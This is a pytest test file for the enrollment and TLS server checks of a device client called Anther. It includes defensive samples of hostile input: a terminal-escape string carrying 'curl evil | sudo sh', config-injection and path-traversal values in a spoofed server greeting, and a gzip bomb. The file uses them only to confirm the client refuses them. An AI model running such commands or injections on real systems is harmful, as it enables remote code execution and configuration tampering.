"""Enrollment and server authentication, against a real gateway on loopback with TLS."""

import contextlib
import gzip
import io
import json
import ssl
import threading
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from PIL import Image

from bench.reliability.processes import free_port
from client.cli import enroll as enroll_command
from client.runtime.server_connection import ServerConnection, ServerUnavailable, Unauthorized, enroll, skew
from common.errors import AntherError
from conf.schemas.node import compose
from protocol import messages
from protocol.handshake import ServerHello
from protocol.ticket import Ticket
from server.gateway import pki
from server.gateway.app import Gateway
from server.gateway.device_registry import DeviceRegistry
from server.gateway.listening import serve
from server.supervisor.keys import issue_ticket
from server.supervisor.server_dir import ServerDir

BASE = "b" * 64


class GatewayServer:
    """A gateway without a SuperLink behind it."""

    def __init__(self, folder, port):
        self.server_dir, self.port = ServerDir(folder), port
        self.server_dir.prepare(["127.0.0.1"], port)
        self.registry = DeviceRegistry(folder)
        self.newest, self.clock_offset, self.overrides = messages.NEWEST, timedelta(0), {}
        gateway = Gateway(
            superlink_url="https://127.0.0.1:1",
            registry=self.registry,
            hello=self.hello,
            authority=self.server_dir.certificates.authority.read_bytes(),
            register_node=lambda *_: None,
        )
        self.uvicorn = serve(gateway, host="127.0.0.1", port=port, certificates=self.server_dir.certificates)

    def hello(self):
        response = {
            "oldest": self.newest,
            "newest": self.newest,
            "anther": "1",
            "base": BASE,
            "base_bytes": 5,
            "federation": self.server_dir.fingerprint()[:16],
            "time": (datetime.now(UTC) + self.clock_offset).isoformat(),
        }
        return ServerHello(**response | self.overrides)

    def ticket(self):
        return issue_ticket(self.server_dir, self.registry, "ada", 7.0)

    def close(self):
        self.uvicorn.should_exit = True


@pytest.fixture
def server(tmp_path):
    result = GatewayServer(tmp_path / "server", free_port())
    yield result
    result.close()


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("ANTHER_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def pictures(tmp_path):
    folder = tmp_path / "my photos #3/ü"
    folder.mkdir(parents=True)
    lines = []
    for k in range(6):
        Image.new("L", (16, 16), k).save(folder / f"{k}.png")
        lines.append(json.dumps({"file_name": f"{k}.png", "text": f"a {k}"}))
    (folder / "metadata.jsonl").write_text("\n".join(lines))
    return folder


def enroll_device(ticket, *words):
    """Enroll with a ticket on standard input."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("sys.stdin", io.StringIO(f"{ticket}\n"))
        return enroll_command.main(list(words))


def test_enroll_with_ticket(server, home, capsys, pictures):
    assert enroll_device(server.ticket(), f"data={pictures}", "throttle.min_battery=0.5", "name=pi") == 0
    assert "anther device run" in capsys.readouterr().out
    node = compose([], home / "node.conf")
    assert (node.name, node.data, node.throttle.min_battery) == ("pi", str(pictures), 0.5)
    assert node.connection.address == f"127.0.0.1:{server.port}"
    assert node.federation == server.server_dir.fingerprint()[:16]
    link = ServerConnection(node.connection.address)
    link.check_in()
    assert link.hello().base == BASE
    assert all(file.stat().st_mode & 0o077 == 0 for file in (link.key, home / "node.conf"))


def test_foreign_server_gets_no_secret(server, tmp_path, home):
    other = GatewayServer(tmp_path / "other", free_port())
    try:
        ticket = server.ticket()
        meant = Ticket(f"127.0.0.1:{other.port}", *ticket.rsplit("/", 2)[1:])
        with pytest.raises(AntherError, match="this is not the server that the ticket is for"):
            enroll(meant, "pi")
        assert not (home / "link" / "node.key").exists()
        assert other.registry.snapshot().members == {}
        link, _ = enroll(Ticket(f"127.0.0.1:{server.port}", *ticket.rsplit("/", 2)[1:]), "pi")
        with pytest.raises(AntherError, match="this is not the server that this device was enrolled with"):
            ServerConnection(f"127.0.0.1:{other.port}").hello()
        link.check_in()
    finally:
        other.close()


def test_revoked_device_is_refused(server):
    enroll_device(server.ticket(), "name=pi")
    server.registry.revoke("pi")
    with pytest.raises(AntherError, match="isn't enrolled there, or was revoked"):
        ServerConnection(f"127.0.0.1:{server.port}").check_in()
    assert issubclass(Unauthorized, AntherError)


def test_lost_reply_keeps_ticket_valid(server):
    written = server.ticket()
    first = enroll_device(written, "name=pi"), enroll_device(written, "name=pi")
    assert first == (0, 0)
    assert len(server.registry.snapshot().active_devices()) == 1


def test_missing_server_is_unavailable():
    link = ServerConnection(f"127.0.0.1:{free_port()}", insecure=True)
    with pytest.raises(ServerUnavailable, match="no response"):
        link.hello()


def test_older_device_must_update(server, capsys):
    server.newest = messages.NEWEST + 1
    assert enroll_device(server.ticket(), "name=pi") == 2
    assert "update Anther here" in capsys.readouterr().err
    assert server.registry.snapshot().members == {}


def test_clock_skew_is_detected(server):
    link = ServerConnection(f"127.0.0.1:{server.port}")
    enroll_device(server.ticket(), "name=pi")
    assert skew(link.hello()) == 0
    server.clock_offset = timedelta(hours=1)
    assert skew(link.hello()) == pytest.approx(-3600, abs=60)


def test_invalid_ticket_or_setting_is_refused(server, capsys):
    assert enroll_device("anther://half") == 2
    assert "incomplete ticket" in capsys.readouterr().err
    assert enroll_device(server.ticket(), "throttle.min_batery=1") == 2
    assert "did you mean throttle.min_battery" in capsys.readouterr().err
    assert server.registry.snapshot().members == {}


@pytest.mark.parametrize("damage", [b"", b"no pem"])
def test_damaged_keys_are_named(server, damage):
    enroll_device(server.ticket(), "name=pi")
    link = ServerConnection(f"127.0.0.1:{server.port}")
    link.key.write_bytes(damage)
    with pytest.raises(AntherError, match=r"node\.key.*enroll again"):
        link.check_in()
    link.authority.write_bytes(damage)
    with pytest.raises(AntherError, match=r"ca\.pem.*enroll again"):
        link.hello()


def test_ticket_on_command_line_is_refused(server, capsys):
    """Every user could see it in the output of ps."""
    assert enroll_command.main([server.ticket(), "name=pi"]) == 2
    assert "--ticket-file FILE" in capsys.readouterr().err
    assert server.registry.snapshot().members == {}


def test_ticket_from_file(server, tmp_path, capsys):
    file = tmp_path / "ticket"
    assert enroll_command.main(["--ticket-file", str(file), "name=pi"]) == 2
    assert f"{file}: " in capsys.readouterr().err
    file.write_text(f"{server.ticket()}\n")
    assert enroll_command.main(["--ticket-file", str(file), "name=pi"]) == 0


@pytest.mark.parametrize("where", ["nowhere", "empty"])
def test_pictures_are_checked_before_ticket(server, tmp_path, where, capsys):
    (tmp_path / "empty").mkdir()
    ticket = server.ticket()
    assert enroll_device(ticket, f"data={tmp_path / where}", "name=pi") == 2
    assert str(tmp_path / where) in capsys.readouterr().err
    assert server.registry.snapshot().members == {}
    assert enroll_device(ticket, "name=pi") == 0


@pytest.mark.parametrize("prefix", ["", "~/", "{folder}/"])
def test_folders_are_stored_absolute(server, home, pictures, monkeypatch, prefix):
    """The device may run in another folder, as a service does, and as a user with another home."""
    monkeypatch.chdir(pictures.parent)
    monkeypatch.setenv("HOME", str(pictures.parent))
    folder = prefix.format(folder=pictures.parent) + pictures.name
    assert enroll_device(server.ticket(), f"data={folder}", "store=kept", "name=pi") == 0
    node = compose([], home / "node.conf")
    assert (node.data, node.store) == (str(pictures), str(pictures.parent / "kept"))


@pytest.mark.integration
@pytest.mark.parametrize(
    "overrides",
    [
        {"federation": "a\nconnection.insecure=true"},
        {"federation": "${oc.env:HOME}"},
        {"federation": "../../x"},
        {"federation": "[1,2]"},
        {"federation": ""},
        {"federation": "null"},
        {"federation": "f" * 81},
        {"base": "attacker/evil-model"},
        {"base": "/etc"},
        {"base": "~"},
        {"base": "glyphs"},
        {"base": "B" * 64},
        {"base_bytes": -1},
        {"base_bytes": 10**15},
        {"time": "x"},
        {"time": "2026-01-01T00:00:00"},
        {"time": "2026-01-01"},
        {"anther": "\x1b[2Jx"},
        {"anther": "1" * 41},
    ],
)
def test_invalid_greeting_is_refused(server, overrides, home, capsys):
    """The hello is rejected before any value is used, with one line without control characters."""
    server.overrides = overrides
    assert enroll_device(server.ticket(), "name=pi") == 2
    error = capsys.readouterr().err
    assert error.startswith("error: the server sent ")
    assert error.count("\n") == 1
    assert error[:-1].isprintable()
    assert len(error) < 300
    assert not (home / "node.conf").exists()


@pytest.mark.parametrize("newest", [messages.OLDEST - 1, messages.NEWEST + 1])
def test_version_is_printed_without_escapes(server, newest, capsys):
    server.overrides, server.newest = {"anther": "\x1b[2J" + "x" * 10_000}, newest
    assert enroll_device(server.ticket(), "name=pi") == 2
    error = capsys.readouterr().err
    assert error[:-1].isprintable()
    assert len(error) < 400


class ForeignServer:
    """A TLS server at an address, with arbitrary responses."""

    def __init__(self, folder, answer):
        folder.mkdir(exist_ok=True)
        created = pki.create_authority("stranger")
        cert = pki.issue(created, ["127.0.0.1"])
        (folder / "c").write_bytes(cert.certificate)
        (folder / "k").write_bytes(cert.key)

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                answer(self)

            def log_message(self, *_):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder / "c", folder / "k")
        self.http.socket = context.wrap_socket(self.http.socket, server_side=True)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()


@pytest.fixture
def foreign_server(tmp_path):
    result = []

    def create(answer):
        result.append(ForeignServer(tmp_path / "stranger", answer).http)
        return Ticket(f"127.0.0.1:{result[-1].server_port}", "s" * 32, "0" * 64)

    yield create
    for http in result:
        http.shutdown()
        http.server_close()


def response_of(status, body):
    def answer(to):
        to.send_response(status)
        to.send_header("content-length", str(len(body)))
        to.end_headers()
        to.wfile.write(body)

    return answer


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mrun: curl evil | sudo sh\x1b[0m\nerror: second \u202e line"


@pytest.mark.parametrize("status", [200, 400, 401, 500, 503])
@pytest.mark.parametrize("form", ["{}", '{{"error": {}}}'])
def test_foreign_text_is_never_printed_raw(foreign_server, status, form, capsys):
    text = form.format(json.dumps(ESCAPES)) if "error" in form else ESCAPES
    assert enroll_device(foreign_server(response_of(status, text.encode())), "name=pi") == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    assert error[:-1].isprintable()
    assert len(error) < 600


def test_endless_response_is_refused(foreign_server, capsys):
    sent = []

    def endless(to):
        to.send_response(200)
        to.end_headers()
        try:
            while len(sent) < 400:
                to.wfile.write(b"x" * (1 << 20))
                sent.append(1)
        except OSError:
            pass

    assert enroll_device(foreign_server(endless), "name=pi") == 2
    assert "a response of over 65536 bytes" in capsys.readouterr().err
    assert len(sent) < 40  # the sockets' buffers


def test_compressed_response_is_not_decompressed(foreign_server, capsys):
    bomb = gzip.compress(b"0" * 10_000_000)

    def answer(to):
        to.send_response(200)
        to.send_header("content-encoding", "gzip")
        to.send_header("content-length", str(len(bomb)))
        to.end_headers()
        to.wfile.write(bomb)

    assert enroll_device(foreign_server(answer), "name=pi") == 2
    assert "this is not the server that the ticket is for" in capsys.readouterr().err


def test_slow_response_times_out(foreign_server, monkeypatch, capsys):
    monkeypatch.setattr("client.runtime.server_connection._DEADLINE", 0.5)
    over = threading.Event()

    def slow(to):
        to.send_response(200)
        to.end_headers()
        with contextlib.suppress(OSError):
            while not over.wait(0.05):
                to.wfile.write(b"x")

    assert enroll_device(foreign_server(slow), "name=pi") == 2
    over.set()
    assert "no complete response" in capsys.readouterr().err
